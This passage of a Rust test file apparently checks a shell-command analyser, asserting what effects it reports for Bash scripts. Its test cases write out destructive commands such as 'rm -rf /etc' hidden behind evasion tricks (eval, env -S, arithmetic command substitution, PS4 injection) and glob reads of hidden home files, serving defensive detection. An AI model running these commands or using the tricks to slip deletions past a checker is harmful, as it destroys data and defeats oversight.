        ("cat /h*/u/.?????", "read.secret /h*/u/.?????"),
        ("cat /home/u/.x*", "read.home /home/u/.x*"),
    ] {
        let all = found(&facts_on(&machine, Dialect::Bash, script));
        let effects: Vec<_> = all.lines().filter(|line| !line.starts_with('$')).collect();
        assert_eq!(effects.join(", "), expected, "{script}");
    }
}

fn quoted(text: &str) -> String {
    if text.len() > 20_000 { "x".to_owned() } else { format!("'{}'", text.replace('\'', "'\\''")) }
}

#[test]
fn ways_around() {
    assert_effects(&[
        (". /dev/stdin", "? script: commands are read from an input that is not known here"),
        ("source /proc/self/fd/4", "? script: commands are read from an input that is not known here"),
        ("bash /dev/stdin", "? script: bash reads code that is not known here"),
        ("eval -- rm -rf /etc", "delete.root /etc"),
        ("return; rm -rf /etc", "delete.root /etc"),
        ("break; rm -rf /etc", "delete.root /etc"),
        ("exec nosuch; rm -rf /etc", "delete.root /etc, ? program: no table says what nosuch does"),
        ("f() { return; rm -rf /etc; }; f", ""),
        ("for i in 1 2; do break; rm -rf /etc; done", ""),
        ("exit; rm -rf /etc", ""),
        ("exit 1 2; rm -rf /etc", "delete.root /etc"),
        ("logout; rm -rf /etc", "delete.root /etc"),
        ("eval return; rm -rf /etc", "delete.root /etc"),
        ("env - rm -rf /etc", "delete.root /etc"),
        ("env -i - A=1 rm -rf /etc", "delete.root /etc"),
        ("env -S 'sh -c' 'rm -rf /etc'", "delete.root /etc"),
        ("env -S '-i rm -rf /etc'", "delete.root /etc, ? program: no table says what -i does"),
        ("env A=1 rm -rf /etc", "delete.root /etc"),
        ("declare x=~/y; rm -rf $x", "delete.home /home/u/y"),
        ("env x=~ sh -c 'rm -rf $x'", "delete.root /home/u"),
        ("declare -n r=x; x=a; r=/etc; rm -rf $x", "delete.unknown …, ? path: …: $x has another name"),
        ("export -n x; rm -rf a", "delete.replaceable /home/u/p/a"),
        ("x='a[$(rm -rf /etc)]'; (( x ))", "delete.root /etc"),
        ("x='a[$(rm -rf /etc)]'; echo $((x))", "delete.root /etc"),
        ("x='a[$(rm -rf /etc)]'; y=x; let y", "delete.root /etc"),
        ("x='a[$(rm -rf /etc)]'; echo ${y:x}", "delete.root /etc"),
        ("x='a[$(rm -rf /etc)]'; a[x]=1", "delete.root /etc"),
        ("x='a[$(rm -rf /etc)]'; echo ${!x}", "delete.root /etc"),
        ("x='a[$(rm -rf /etc)]'; declare -i y=x", "delete.root /etc"),
        ("export PS4='$(rm -rf /etc)'", "delete.root /etc"),
        ("select x in a; do rm -rf $REPLY; done", "delete.unknown …, ? path: …: $REPLY is typed"),
        ("x=a; x=/etc eval 'rm -rf $x'", "delete.root /etc"),
        ("x=a; printf -vx %s /etc; rm -rf $x", "delete.root /etc"),
        ("$(type -P rm) -rf /etc", "? command: the name of the command is not known: what type prints"),
        ("PWD=/etc; rm -rf ~+/x", "delete.system /etc/x"),
        ("CDPATH=/ cd etc; rm -rf x", "delete.unknown x, ? path: x: CDPATH may lead `cd` elsewhere"),
        ("cd -; rm -rf x", "delete.unknown x, ? path: x: the folder before the last `cd`"),
    ]);
}
